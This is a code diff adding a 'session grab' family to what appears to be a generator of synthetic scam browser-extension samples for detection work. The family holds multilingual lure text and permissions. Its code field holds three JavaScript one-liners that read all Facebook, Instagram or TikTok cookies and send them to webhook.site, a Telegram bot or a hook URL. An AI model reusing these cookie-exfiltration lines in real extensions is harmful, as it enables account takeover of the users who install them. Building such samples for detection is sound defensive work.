@@ -393,4 +393,82 @@ STALK_REPORT = Family(
     },
 )
 
-FAMILIES = (PROFILE_VIEWER, UNBLOCKER, DL_REMOTE, FAN_PANEL, STALK_REPORT)
+# Session stealers published as small "tools": a thin manifest (a vague name and one line of
+# text), cookies plus one social network's site, a popup whose button reads every cookie of that
+# site and posts it to a webhook or chat bot. The manifest alone says little; the code says all.
+SESSION_GRAB = Family(
+    key="ext-scam-sessiongrab",
+    label="scam",
+    subtype="cookie_theft",
+    n=12,
+    langs=(("en", 6), ("id", 1), ("pt", 1), ("tr", 1), ("es", 1)),
+    names=("Auto Liker Tool", "Page Helper", "Account Tools", "Quick Login Fix", "FB Unlock"),
+    text={
+        "en": Bank(
+            intros=("{name}: one click tools for your account.", "Simple helper for your profile."),
+            points=(
+                "One click, no setup",
+                "Works on the account you are logged in to",
+                "Auto like, auto follow and page unlock in the same popup",
+                "Fix login problems and checkpoint errors",
+                "Keeps working after the site updates",
+                "Faster than doing it by hand",
+            ),
+            closes=(
+                "Open the site, stay logged in, click the button in the popup and wait a few seconds until it says done.",
+                "Test version, more tools coming. Leave a review if it helped you and share it with your friends.",
+            ),
+        ),
+        "id": Bank(
+            intros=("{name}: alat satu klik untuk akunmu.", "Pembantu sederhana untuk profilmu."),
+            points=("Satu klik", "Berjalan di akun yang sedang login"),
+            closes=("Klik tombol di popup lalu tunggu.", "versi tes"),
+        ),
+        "pt": Bank(
+            intros=(
+                "{name}: ferramentas de um clique para sua conta.",
+                "Ajudante simples para seu perfil.",
+            ),
+            points=("Um clique", "Funciona na conta logada"),
+            closes=("Clique no botão do popup e espere.", "versão de teste"),
+        ),
+        "es": Bank(
+            intros=(
+                "{name}: herramientas de un clic para tu cuenta.",
+                "Ayudante simple para tu perfil.",
+            ),
+            points=("Un clic", "Funciona con tu cuenta iniciada"),
+            closes=("Pulsa el botón del popup y espera.", "versión de prueba"),
+        ),
+        "tr": Bank(
+            intros=("{name}: hesabın için tek tık araçlar.", "Profilin için basit yardımcı."),
+            points=("Tek tık", "Giriş yapılmış hesapta çalışır"),
+            closes=("Açılır penceredeki düğmeye bas ve bekle.", "deneme sürümü"),
+        ),
+        "vi": Bank(
+            intros=("{name}: công cụ một chạm cho tài khoản.", "Trợ lý đơn giản cho hồ sơ."),
+            points=("Một chạm", "Chạy trên tài khoản đang đăng nhập"),
+            closes=("Bấm nút trong popup rồi chờ.", "bản thử"),
+        ),
+    },
+    knobs={
+        "mv": (3, 3, 2),
+        "perms": (("cookies", "tabs"), ("scripting", "activeTab", "storage")),
+        "hosts": (
+            ("*://*.facebook.com/*",),
+            ("*://*.instagram.com/*", _TT, "*://web.facebook.com/*"),
+        ),
+        "cs": ((),),
+        "update": ("store",),
+        "ext_conn": (None,),
+        "csp": (None,),
+        "dnr": None,
+        "code": (
+            "$('#go').click(() => chrome.cookies.getAll({url: 'https://www.facebook.com'}, cs => $.ajax({url: 'https://webhook.site/' + ID, type: 'POST', data: {c: cs.map(c => c.name + '=' + c.value)}})));",
+            "chrome.cookies.getAll({domain: '.instagram.com'}, cs => fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=${C}&text=` + encodeURIComponent(JSON.stringify(cs))));",
+            "document.getElementById('btn').onclick = () => chrome.cookies.getAll({domain: 'tiktok.com'}, cs => fetch(HOOK, {method: 'POST', body: JSON.stringify(cs)}));",
+        ),
+    },
+)
+
+FAMILIES = (PROFILE_VIEWER, UNBLOCKER, DL_REMOTE, FAN_PANEL, STALK_REPORT, SESSION_GRAB)
